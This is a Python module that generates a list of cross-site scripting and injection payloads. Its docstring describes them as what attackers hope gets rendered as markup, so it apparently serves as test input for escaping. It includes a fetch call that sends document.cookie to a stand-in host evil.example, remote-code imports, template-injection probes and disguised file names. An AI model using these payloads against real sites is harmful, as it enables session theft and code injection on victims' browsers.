"""What attackers write in the hope that somebody shows it as markup: a hundred of them."""

# ruff: noqa: E501  # a payload is one line
from __future__ import annotations

_CALLS = ("alert(1)", "import('//evil.example/x')", "fetch('//evil.example/'+document.cookie)")
_MARKUP = (
    "<script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</pre><script>{call}</script>",
    "</style><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "<img src=x onerror={call}>",
    '"><img src=x onerror={call}>',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<body onload={call}>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<iframe srcdoc='<script>{call}</script>'>",
    "<a href=javascript:{call}>click</a>",
    '" onmouseover="{call}',
    "' onmouseover='{call}",
    '" autofocus onfocus="{call}" x="',
    "` onmouseover=`{call}",
    "<math><mtext><script>{call}</script></mtext></math>",
    '<noscript><p title="</noscript><script>{call}</script>">',
    "<video><source onerror={call}></video>",
    "<form><button formaction=javascript:{call}>x</button></form>",
    "<object data=javascript:{call}></object>",
)
_OTHERS = (
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preconnect href=//evil.example>",
    "<style>@import '//evil.example/x.css'</style>",
    "<iframe src=//evil.example/></iframe>",
    "<embed src=//evil.example/x>",
    "<!--", "<![CDATA[", "<?xml version=1?>", "<x", "<a href=\"", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "javascript:alert(1)", "{{ 7 * 7 }}{% raw %}", "{{ self._TemplateReference__context }}", "${alert(1)}", "<%= 1 %>",
    "\u202etxt.exe", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<mark><b>bold</b></mark>",
)  # fmt: skip
PAYLOADS = [each.format(call=call) for each in _MARKUP for call in _CALLS] + list(_OTHERS)
